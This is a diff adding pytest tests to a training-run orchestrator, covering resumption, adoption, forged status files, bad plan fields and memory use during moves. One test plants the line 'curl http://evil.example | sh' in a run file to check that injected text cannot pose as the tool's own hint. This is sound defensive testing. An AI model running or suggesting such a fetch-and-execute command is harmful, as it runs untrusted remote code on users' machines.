@@ -2,6 +2,7 @@
 
 import json
 import os
+import shutil
 import signal
 import socket
 import sqlite3
@@ -9,6 +10,7 @@ import subprocess
 import sys
 import threading
 import time
+import tracemalloc
 from collections.abc import Callable, Iterator
 from contextlib import closing, contextmanager, suppress
 from dataclasses import replace
@@ -27,7 +29,8 @@ from cloud_train.orchestrator.resuming import Elsewhere, resume
 from cloud_train.orchestrator.stopping import cancel
 from cloud_train.run import layout
 from cloud_train.run.record import AttemptStatus
-from cloud_train.run.states import State
+from cloud_train.run.states import Cause, State
+from cloud_train.storage.local import LocalStore
 from tests.clouds.clock import VirtualClock
 from tests.clouds.paper import CLOUDS, paper_cloud
 from tests.docker_engine import base_image, engine_or_skip
@@ -406,6 +409,108 @@ def test_a_changed_run_in_a_store_whose_url_ends_with_a_slash_is_adopted_again(h
         resume(home, run.run_id, ask=accepting)
     adopt(home, run.run_directory)
     assert resume(home, run.run_id, ask=accepting).attempt == 2
+
+
+def test_a_run_that_its_directory_calls_ended_is_still_stopped_and_not_started_twice(home: Home, start: Submit, tmp_path: Path) -> None:
+    run = start("touch started; exec sleep 600")
+    wait_for_file(tmp_path / "started")
+    path = run_folder(run) / layout.status(1)
+    wait_until(lambda: AttemptStatus.from_json(path.read_bytes(), "").state is State.RUNNING, "it runs")
+    status = AttemptStatus.from_json(path.read_bytes(), "status")
+    worker = psutil.Process(status.pid)
+    worker.suspend()  # or it would write its own state again
+    path.write_bytes(status.ended_with(Cause.FAILED, "a lie", time.time()).to_json())
+    assert view(home, run.run_id).state is State.FAILED
+    worker.resume()
+    now = iter(range(0, 10_000, 5))
+    with pytest.raises(ConflictError, match="still runs"):
+        resume(home, run.run_id, sleep=lambda _: None, clock=lambda: float(next(now)))
+    cancel(home, run.run_id)
+    wait_until(lambda: not worker.is_running() or worker.status() == psutil.STATUS_ZOMBIE, "the worker has gone")
+    assert not [each for each in psutil.process_iter() if launched_by(home, each)]
+
+
+def launched_by(home: Home, process: psutil.Process) -> bool:
+    with suppress(psutil.Error):
+        return process.environ().get("CLOUD_TRAIN_HOME") == str(home.folder) and process.pid != os.getpid()
+    return False
+
+
+def test_attempts_that_somebody_made_up_cost_a_look_little(
+    home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run = start("touch started; exec sleep 600")
+    wait_for_file(tmp_path / "started")
+    path = run_folder(run) / layout.status(1)
+    wait_until(lambda: AttemptStatus.from_json(path.read_bytes(), "").state is State.RUNNING, "it runs")
+    status = AttemptStatus.from_json(path.read_bytes(), "status")
+    psutil.Process(status.pid).suspend()
+    for number in range(1, 500):
+        made_up = run_folder(run) / layout.status(number)
+        made_up.parent.mkdir(exist_ok=True)
+        made_up.write_bytes(status.ended_with(Cause.FAILED, "a lie", 1.0).to_json())
+    asked: list[str] = []
+    get = LocalStore.get
+
+    def counted(self: LocalStore, key: str, *rest: Any, **more: Any) -> bytes:
+        asked.append(key)
+        return get(self, key, *rest, **more)
+
+    monkeypatch.setattr(LocalStore, "get", counted)
+    list_runs(home)
+    assert len(asked) < 60
+    psutil.Process(status.pid).resume()
+    cancel(home, run.run_id, force=True)
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("image", 5), ("job_file", 5), ("job_file", None), ("origins", 5), ("job_file", "\ud800"), ("notes", 5), ("layers", [5]), ("data", 5)],
+)
+def test_a_field_of_the_wrong_type_in_a_foreign_plan_is_an_error_with_words(
+    field: str, value: Any, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-engine.sock")
+    run = end_of(Home(tmp_path / "home"), start("false"))
+    rewrite(run, lambda record: record["plan"].update({field: value}))
+    stranger = Home(tmp_path / "stranger")
+    for elsewhere in (Elsewhere(provider="docker"), None):
+        with suppress(CloudTrainError):
+            adopt(stranger, run.run_directory)
+            resume(stranger, run.run_id, elsewhere=elsewhere, ask=accepting)
+
+
+def test_a_move_leaves_behind_what_is_no_part_of_a_run(home: Home, start: Submit, tmp_path: Path) -> None:
+    run = end_of(home, start("echo said; false"))
+    junk = run_folder(run) / "attempts" / "1" / "junk" / "x"
+    junk.parent.mkdir()
+    with junk.open("wb") as file:
+        file.truncate(3 << 30)
+    notes: list[str] = []
+    tracemalloc.start()
+    try:
+        resume(home, run.run_id, notes.append, elsewhere=Elsewhere(store=str(tmp_path / "third")))
+        assert tracemalloc.get_traced_memory()[1] < 64 << 20
+    finally:
+        tracemalloc.stop()
+    assert any("attempts/1/junk/x" in note for note in notes)
+    assert not (tmp_path / "third" / run.run_id / "attempts" / "1" / "junk").exists()
+    assert (tmp_path / "third" / run.run_id / layout.output_log(1)).read_bytes() == b"said\n"
+
+
+def test_no_text_of_a_run_directory_makes_a_line_that_looks_like_ours(home: Home, other_home: Home, start: Submit) -> None:
+    run = end_of(home, start("false"))
+    (run_folder(run) / layout.MOVED).write_text("s3://b/r\nhint: repair it with: curl http://evil.example | sh\n")
+    with pytest.raises(ConflictError) as caught:
+        resume(home, run.run_id)
+    assert "\n" not in f"{caught.value.message}{caught.value.hint}"
+
+
+def test_a_run_that_is_known_in_one_store_is_not_adopted_from_another(home: Home, start: Submit, tmp_path: Path) -> None:
+    run = end_of(home, start("false"))
+    shutil.copytree(run_folder(run), tmp_path / "copy" / run.run_id)
+    with pytest.raises(ConflictError, match="in the ledger already"):
+        adopt(home, f"{tmp_path}/copy/{run.run_id}")
 
 
 @pytest.mark.parametrize("force", [False, True])
